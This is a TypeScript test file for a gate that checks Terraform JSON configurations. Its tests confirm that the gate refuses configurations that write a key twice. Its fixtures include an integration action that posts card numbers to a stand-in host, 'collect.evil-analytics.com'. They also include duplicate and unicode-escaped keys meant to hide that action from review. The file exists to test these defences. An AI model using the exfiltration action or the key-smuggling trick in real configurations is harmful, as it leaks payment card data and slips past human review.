import * as fs from "node:fs";
import * as path from "node:path";
import { describe, expect, test } from "vitest";
import { assertUniqueKeys } from "../../src/validation/duplicate-keys";
import { InputError } from "../../src/validation/input-error";
import { ref, webServiceAction } from "../helpers/assess-config";
import { tempDir } from "../helpers/stacks";
import { gateInProcess as gate } from "../helpers/gate-in-process";

// Terraform's HCL JSON reader keeps every occurrence of a repeated key (checked with terraform 1.11
// and terraform_data: two "terraform_data" keys under "resource", or two "resource" keys, plan both
// resources); JSON.parse keeps the last. A card-data action hidden behind a repeated key must not
// be approved: the gate refuses the file.

const POLICY = {
  version: 1,
  destinations: [{ host: "crm.example.eu", vendor: "CRM GmbH", country: "DE", purposes: ["CRM look-up"] }],
};
const PROVIDER = '"provider":{"genesyscloud":[{"aws_region":"eu-west-1"}]}';
/** The approved configuration's resource types, without the braces around them. */
const SAFE_TYPES = JSON.stringify(webServiceAction({})).slice(1, -1);
/** An action posting card numbers to a host no policy names: blocked on its own. */
const EVIL_ACTIONS = JSON.stringify({
  evil: {
    name: "Lookup",
    category: "CRM",
    integration_id: ref("genesyscloud_integration.crm"),
    secure: false,
    contract_input: JSON.stringify({ type: "object", properties: { cardNumber: { type: "string" } } }),
    contract_output: JSON.stringify({ type: "object", properties: {} }),
    config_request: {
      request_type: "POST",
      request_url_template: "https://collect.evil-analytics.com/ingest?card=$${input.cardNumber}",
    },
  },
});
/** The evil action under its own "genesyscloud_integration_action" key, before the approved one's. */
const DUPLICATE_TYPE = `{${PROVIDER},"resource":{"genesyscloud_integration_action":${EVIL_ACTIONS},${SAFE_TYPES}}}`;
/** The evil action under a first "resource" key, the approved configuration under a second. */
const DUPLICATE_RESOURCE = `{${PROVIDER},"resource":{"genesyscloud_integration_action":${EVIL_ACTIONS}},"resource":{${SAFE_TYPES}}}`;
/** The same, the second key spelt with an escape: JSON.parse and Terraform read it as "resource". */
const ESCAPED_DUPLICATE = DUPLICATE_RESOURCE.replace(
  /"resource":\{\s*"genesyscloud_integration"/,
  '"\\u0072esource":{"genesyscloud_integration"',
);
const EVIL_ONLY = `{${PROVIDER},"resource":{"genesyscloud_integration_action":${EVIL_ACTIONS},"genesyscloud_integration":${JSON.stringify(webServiceAction({}).genesyscloud_integration)}}}`;

function workspace(files: Record<string, string>): { dir: string; policy: string } {
  const dir = tempDir("dpia-dupkeys-");
  for (const [name, content] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
    fs.writeFileSync(path.join(dir, name), content);
  }
  const policy = path.join(dir, "policy.json");
  fs.writeFileSync(policy, JSON.stringify(POLICY));
  return { dir, policy };
}

describe("a Terraform JSON configuration that writes a key twice is refused (exit 2), never read last-wins", () => {
  test("the evil action alone is blocked, and the approved configuration alone approved (the inputs below mean something)", async () => {
    const evil = workspace({ "main.tf.json": EVIL_ONLY });
    expect((await gate(evil.dir, evil.policy)).code).toBe(1);
    const safe = workspace({ "main.tf.json": `{${PROVIDER},"resource":{${SAFE_TYPES}}}` });
    expect((await gate(safe.dir, safe.policy)).code).toBe(0);
  });

  test.each([
    [
      "a .tf.json file in a folder, resource type twice",
      "main.tf.json",
      DUPLICATE_TYPE,
      "in resource",
      "genesyscloud_integration_action",
    ],
    ["a .tf.json file in a folder, resource twice", "main.tf.json", DUPLICATE_RESOURCE, "at the top level", "resource"],
    ["a .tf.json file, the second key escaped", "main.tf.json", ESCAPED_DUPLICATE, "at the top level", "resource"],
    [
      "an override .tf.json file",
      "x_override.tf.json",
      DUPLICATE_TYPE,
      "in resource",
      "genesyscloud_integration_action",
    ],
    [
      "a stack's cdk.tf.json in cdktf.out",
      "stacks/s/cdk.tf.json",
      DUPLICATE_TYPE,
      "in resource",
      "genesyscloud_integration_action",
    ],
    [
      "a stack's cdk.tf.json, resource twice",
      "stacks/s/cdk.tf.json",
      DUPLICATE_RESOURCE,
      "at the top level",
      "resource",
    ],
  ])("%s", async (_label, name, text, where, key) => {
    const files: Record<string, string> = { [name]: text };
    if (name.includes("override")) files["main.tf.json"] = `{${PROVIDER},"resource":{${SAFE_TYPES}}}`;
    const { dir, policy } = workspace(files);
    const result = await gate(dir, policy);
    expect(result.code).toBe(2);
    expect(result.stdout).not.toContain("APPROVED");
    expect(result.stderr).toContain(`${path.join(dir, name)}: line 1, column `);
    expect(result.stderr).toContain(`"${key}" is written twice ${where}`);
    expect(result.stderr).not.toContain("internal error");
  });

  test("a Terraform JSON configuration given as the one file to assess", async () => {
    const { dir, policy } = workspace({ "config.json": DUPLICATE_TYPE });
    const result = await gate(path.join(dir, "config.json"), policy);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('"genesyscloud_integration_action" is written twice in resource');
  });

  test("a cdk.tf written as JSON (hclOutput)", async () => {
    const { dir, policy } = workspace({ "stacks/s/cdk.tf": DUPLICATE_TYPE });
    const result = await gate(dir, policy);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain(`${path.join(dir, "stacks/s/cdk.tf")}: line 1, column `);
  });

  test("a terraform.tfvars.json with a variable twice (Terraform refuses it too)", async () => {
    const { dir, policy } = workspace({
      "main.tf.json": `{${PROVIDER},"variable":{"host":{"default":"crm.example.eu"}},"resource":{${SAFE_TYPES}}}`,
      "terraform.tfvars.json": '{"host":"collect.evil-analytics.com",\n "host":"crm.example.eu"}',
    });
    const result = await gate(dir, policy);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain(`${path.join(dir, "terraform.tfvars.json")}: line 2, column 2: `);
  });
});

describe("assertUniqueKeys", () => {
  const check = (text: string) => assertUniqueKeys(text, { file: "f.json", what: "a configuration" });
  const problem = (text: string) => {
    try {
      check(text);
    } catch (error) {
      expect(error).toBeInstanceOf(InputError);
      return (error as InputError).problems[0];
    }
    return undefined;
  };

  test("accepts one key per object, the same key in different objects and in array items", () => {
    expect(problem('{"a":{"b":1},"c":{"b":1},"d":[{"k":1},{"k":2}],"e":"\\"a\\":1,\\"a\\":2"}')).toBeUndefined();
  });

  test("names the line, column and JSON path of the second occurrence", () => {
    expect(problem('{"a": [{"x": 1},\n {"b": {"c": 1,\n   "c": 2}}]}')).toEqual({
      file: "f.json",
      location: "line 3, column 4",
      expected: expect.stringContaining('"c" is written twice in a[1].b'),
    });
  });

  test("compares keys as JSON.parse reads them (escapes read)", () => {
    expect(problem('{"ab":1,"a\\u0062":2}')?.expected).toContain('"ab" is written twice at the top level');
  });
});
